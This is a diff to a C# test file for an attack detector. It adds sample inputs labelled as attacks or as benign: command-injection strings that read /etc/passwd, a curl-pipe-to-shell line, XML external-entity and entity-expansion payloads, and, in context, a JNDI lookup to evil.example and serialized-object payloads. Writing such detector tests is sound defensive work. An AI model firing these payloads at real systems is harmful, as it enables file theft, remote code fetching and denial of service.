@@ -62,6 +62,8 @@ public sealed class DetectorTables
     [InlineData("print(`echo A\necho $((1+1))`);")]
     [InlineData("a;{wget,http://files.example/x}")]
     [InlineData("x`id -u`; ls -la `")]
+    [InlineData("x\n```\n; cat /etc/passwd")]
+    [InlineData("* x; cat /etc/passwd")]
     public void Command_injection(string text) => IsAttack("command-injection", text);
 
     [Theory]
@@ -76,6 +78,9 @@ public sealed class DetectorTables
     [InlineData("data:image/png;base64,iVBORw0KGgo=")]
     [InlineData("Use `rm -rf node_modules; npm i` to start over; see the manual.")]
     [InlineData("Dear team,\n\nplease run `systemctl restart nginx; tail -f /var/log/nginx/error.log` and tell me.")]
+    [InlineData("```sh\ncurl https://example.com | sh\n```")]
+    [InlineData("# Heading\n\n* item; two\n* `ls -la /etc` shows files\n")]
+    [InlineData("> what does `cat /proc/cpuinfo; id` print?\n\n* the processor\n* who you are")]
     [InlineData("#!/bin/bash\nset -e\nnpm ci\nnpm test\n")]
     [InlineData("FROM node:20\nRUN apt-get update && apt-get install -y curl; rm -rf /var/lib/apt\n")]
     public void Not_command_injection(string text) => IsNotAttack(text);
@@ -113,6 +118,9 @@ public sealed class DetectorTables
     [InlineData("template-injection", "${j${x:-n}di:${y:-l}dap://evil.example/a}")]
     [InlineData("template-injection", "{{7*7}}")]
     [InlineData("xml-entity", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>")]
+    [InlineData("xml-entity", "<!DOCTYPE x [<!ENTITY y \"z\"><!ENTITY w SYSTEM \"file:///etc/passwd\">]><x>&w;</x>")]
+    [InlineData("xml-entity", "<!DOCTYPE x [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]><x>&b;</x>")]
+    [InlineData("xml-entity", "<!DOCTYPE x [<!ENTITY % a \"z\">%a;]><x/>")]
     [InlineData("xml-entity", "<!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\"><x/>")]
     [InlineData("deserialization", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC")]
     [InlineData("deserialization", "O:8:\"Evil\":1:{s:1:\"a\";i:1;}")]
